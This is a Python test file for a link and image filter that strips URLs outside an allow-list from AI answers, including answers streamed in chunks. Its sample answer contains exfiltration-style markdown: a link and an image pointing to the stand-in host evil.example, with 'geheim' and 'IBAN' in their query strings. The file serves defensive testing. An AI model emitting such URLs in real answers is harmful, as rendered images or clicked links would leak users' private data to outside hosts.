"""Links and images in answers: outside the allow-list they are removed, also mid-stream."""

from __future__ import annotations

from leitstand.guard.request import LinkFilter

ANSWER = (
    "Details im Intranet: [Reiserichtlinie](https://intranet.example.de/reisen) "
    "und ![Logo](https://cdn.example.de/logo.png). Mehr unter https://evil.example/x?d=geheim "
    "oder [hier](http://evil.example/page). ![x](https://evil.example/p.png?q=IBAN)"
)


def test_images_from_elsewhere_are_removed_links_kept_by_default() -> None:
    links = LinkFilter(["example.de"], links=False, images=True)
    cleaned = links.clean(ANSWER)
    assert "[image removed: evil.example]" in cleaned and "q=IBAN" not in cleaned
    assert "![Logo](https://cdn.example.de/logo.png)" in cleaned  # a subdomain of an allowed one
    assert "https://evil.example/x?d=geheim" in cleaned and links.removed == 1


def test_links_outside_the_allow_list_are_removed_when_asked() -> None:
    links = LinkFilter(["intranet.example.de"], links=True, images=True)
    cleaned = links.clean(ANSWER)
    assert "[Reiserichtlinie](https://intranet.example.de/reisen)" in cleaned
    assert "evil.example" not in cleaned.replace("[image removed: evil.example]", "")
    assert "hier [link removed]" in cleaned and "Mehr unter [link removed]" in cleaned
    assert "[image removed: cdn.example.de]" in cleaned and links.removed == 4


def test_a_stream_that_splits_links_shows_no_part_of_them() -> None:
    links = LinkFilter([], links=True, images=True)
    pieces = [ANSWER[i : i + 5] for i in range(0, len(ANSWER), 5)]
    shown = [links.feed(p) for p in pieces] + [links.flush()]
    assert not any("http" in s or "evil.example/" in s for s in shown)  # no part of a URL
    assert "".join(shown) == LinkFilter([], links=True, images=True).clean(ANSWER)
